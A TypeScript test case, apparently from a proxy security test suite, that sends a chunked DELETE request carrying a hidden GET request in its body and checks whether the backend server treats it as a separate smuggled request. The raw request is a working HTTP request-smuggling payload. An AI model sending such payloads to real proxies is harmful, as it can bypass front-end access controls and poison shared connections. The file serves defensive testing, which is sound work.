import { PATIENCE, happens, send } from '../attack.ts';
import type { Attack } from '../attack.ts';
import { until } from '../../support/until.ts';

export const chunkedDelete: Attack = {
  kind: 'smuggle',
  title: 'a request in the body of a chunked DELETE',
  async run(t, victim) {
    const inner = 'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n';
    const client = await send(
      t,
      victim,
      `DELETE /outer HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`,
    );
    await client.expect('\r\n\r\n').catch(() => undefined);
    const told = victim.origin.to('/outer')[0];
    const arrived = (): boolean => told === undefined || told.connection.text.includes('/smuggled');
    await happens(until('the body at the server', arrived, PATIENCE));
    // http-proxy declares no body but sends it: the server parses it as a request.
    const smuggled =
      victim.origin.to('/smuggled').length > 0 ||
      (told !== undefined && /content-length: 0/i.test(told.head) && told.connection.text.includes('/smuggled'));
    return smuggled ? 'the server reads the inner request' : undefined;
  },
};
